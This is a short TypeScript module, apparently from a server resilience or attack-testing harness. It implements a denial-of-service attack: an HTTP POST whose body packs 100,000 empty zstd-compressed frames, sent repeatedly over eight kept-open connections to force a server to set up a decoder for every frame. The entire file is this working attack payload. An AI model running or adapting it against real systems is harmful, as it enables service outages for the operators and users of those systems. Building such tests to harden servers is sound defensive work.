import { zstdCompressSync } from 'node:zlib';
import { type Attack, keepOpen, postHead } from '../harness/attack.ts';

/** Each compressed frame needs a decoder of its own. */
const BODY = Buffer.concat(Array(100_000).fill(zstdCompressSync('')));
const REQUEST = Buffer.concat([
  Buffer.from(postHead('content-encoding: zstd', `content-length: ${BODY.length}`)),
  BODY,
]);

/** Posts bodies of 100,000 compressed frames without content. */
const attack: Attack = (target, signal) =>
  keepOpen(target, signal, 8, (socket) => {
    socket.write(REQUEST);
    socket.on('data', () => socket.write(REQUEST));
  });
export default attack;
